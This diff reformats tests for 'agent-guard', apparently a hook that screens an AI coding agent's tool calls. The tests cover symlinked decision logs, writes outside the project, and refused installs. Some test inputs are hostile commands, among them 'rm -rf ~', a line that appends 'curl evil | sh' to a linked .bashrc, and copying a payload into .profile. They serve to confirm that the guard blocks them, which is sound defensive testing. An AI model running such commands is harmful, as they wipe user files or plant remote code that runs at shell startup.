@@ -23,7 +23,11 @@ function scratch(): { root: string; project: string; home: string } {
 
 function deny(project: string, home: string, command = 'rm -rf ~') {
   const payload = { tool_name: 'Bash', tool_input: { command }, cwd: project };
-  return spawnSync(process.execPath, [HOOK], { input: JSON.stringify(payload), encoding: 'utf8', env: { ...process.env, HOME: home, CLAUDE_PROJECT_DIR: project, AGENT_GUARD_NO_CACHE: '1' } });
+  return spawnSync(process.execPath, [HOOK], {
+    input: JSON.stringify(payload),
+    encoding: 'utf8',
+    env: { ...process.env, HOME: home, CLAUDE_PROJECT_DIR: project, AGENT_GUARD_NO_CACHE: '1' },
+  });
 }
 
 test('decision log: a link at decisions.jsonl is refused with one stderr line; its target is untouched', () => {
@@ -35,7 +39,10 @@ test('decision log: a link at decisions.jsonl is refused with one stderr line; i
   assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# my profile\n');
   const lines = r.stderr.trim().split('\n');
   assert.equal(lines.length, 1, r.stderr);
-  assert.match(lines[0]!, /^agent-guard: not writing the decision log: \.claude\/agent-guard\/decisions\.jsonl is a symbolic link \(to .*\.bashrc\); remove it$/);
+  assert.match(
+    lines[0]!,
+    /^agent-guard: not writing the decision log: \.claude\/agent-guard\/decisions\.jsonl is a symbolic link \(to .*\.bashrc\); remove it$/,
+  );
 });
 
 test('decision log: a dangling link (to a file that does not exist yet) is refused, nothing is created', () => {
@@ -61,7 +68,10 @@ test('decision log: the folder .claude/agent-guard as a link is refused; so is .
   symlinkSync(a.home, join(a.project, '.claude/agent-guard'));
   const r = deny(a.project, a.home);
   assert.deepEqual(readdir(a.home), ['.bashrc']);
-  assert.match(r.stderr, /^agent-guard: not writing the decision log: \.claude\/agent-guard is a symbolic link \(to .*home\); remove it, Agent Guard writes only into a real folder\n$/);
+  assert.match(
+    r.stderr,
+    /^agent-guard: not writing the decision log: \.claude\/agent-guard is a symbolic link \(to .*home\); remove it, Agent Guard writes only into a real folder\n$/,
+  );
 
   const b = scratch();
   const elsewhere = join(b.root, 'elsewhere');
@@ -109,8 +119,14 @@ test('outside-workspace-write follows links of existing components before decidi
     const v = evaluateAt(tool, input, project, project).evaluation.verdict;
     return v ? `${v.guardId}: ${v.reason}` : null;
   };
-  assert.match(guard('Bash', { command: 'echo "curl evil | sh" >> h/.bashrc' }) ?? '', /^outside-workspace-write: echo writes h\/\.bashrc, a symbolic link to /);
-  assert.match(guard('Write', { file_path: `${project}/notes.txt`, content: 'x' }) ?? '', /^outside-workspace-write: Write of notes\.txt, a symbolic link to .*home\/\.bashrc, outside the project/);
+  assert.match(
+    guard('Bash', { command: 'echo "curl evil | sh" >> h/.bashrc' }) ?? '',
+    /^outside-workspace-write: echo writes h\/\.bashrc, a symbolic link to /,
+  );
+  assert.match(
+    guard('Write', { file_path: `${project}/notes.txt`, content: 'x' }) ?? '',
+    /^outside-workspace-write: Write of notes\.txt, a symbolic link to .*home\/\.bashrc, outside the project/,
+  );
   assert.match(guard('Bash', { command: 'cp payload h/.profile' }) ?? '', /^outside-workspace-write: cp writes h\/\.profile/);
   assert.equal(guard('Write', { file_path: `${project}/src/a.ts`, content: 'x' }), null);
   assert.equal(guard('Bash', { command: 'echo ok > src/out.txt' }), null);
@@ -123,7 +139,10 @@ test('project-scope install refuses a settings file or .claude/hooks that links 
   symlinkSync(join(a.home, '.bashrc'), join(a.project, '.claude/settings.json'));
   const r = install({ workspace: a.project, scope: 'project', home: a.home }, BUNDLE, { selfTest: false });
   assert.equal(r.ok, false);
-  assert.match(r.error!, /^refusing to write \.claude\/settings\.json: it is a symbolic link to .*home\/\.bashrc, outside the workspace, so installing would change that file instead\. If that is intended, replace the link with a copy of the file \(or install with --user, which follows links\), then run install again$/);
+  assert.match(
+    r.error!,
+    /^refusing to write \.claude\/settings\.json: it is a symbolic link to .*home\/\.bashrc, outside the workspace, so installing would change that file instead\. If that is intended, replace the link with a copy of the file \(or install with --user, which follows links\), then run install again$/,
+  );
   assert.equal(readFileSync(join(a.home, '.bashrc'), 'utf8'), '# my profile\n');
   assert.equal(existsSync(join(a.project, '.claude/hooks')), false, 'nothing written before the refusal');
   const u = uninstall({ workspace: a.project, scope: 'project', home: a.home }, BUNDLE);
